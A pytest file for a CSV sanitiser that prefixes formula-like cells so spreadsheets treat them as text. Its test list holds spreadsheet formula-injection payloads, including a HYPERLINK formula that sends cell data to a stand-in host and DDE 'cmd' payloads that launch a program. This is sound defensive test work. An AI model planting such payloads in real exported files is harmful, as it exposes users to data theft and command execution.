"""Cells a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from detection import csvsafe

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"clic")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_cells_are_prefixed(text: str) -> None:
    assert csvsafe.cell(text) == "'" + text
    out = io.StringIO()
    csvsafe.writer(out).writerow(["ok", text, 3])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["ok", "'" + text, "3"]


@pytest.mark.parametrize("text", ["plain", "a=b", "1-2", " =1", "", "2026-11-20T10:00:00Z"])
def test_other_cells_are_left_alone(text: str) -> None:
    assert csvsafe.cell(text) == text


def test_none_and_numbers() -> None:
    assert csvsafe.cell(None) == ""
    assert csvsafe.cell(-5) == "'-5"  # a negative number is text too: the price of safety
    assert csvsafe.cell(5) == "5"
